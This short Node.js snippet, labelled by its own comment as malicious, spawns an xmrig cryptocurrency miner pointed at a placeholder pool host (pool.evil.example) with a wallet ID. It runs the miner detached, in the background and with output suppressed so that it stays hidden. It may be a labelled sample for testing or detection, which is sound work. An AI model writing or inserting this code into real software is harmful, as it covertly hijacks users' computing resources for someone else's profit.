// malicious: starts a miner
const { spawn } = require('child_process');
spawn('./xmrig', ['-o', 'stratum+tcp://pool.evil.example:3333', '-u', '4AbCdWallet', '--cpu-priority', '5', '-B'], {
  detached: true,
  stdio: 'ignore',
}).unref();
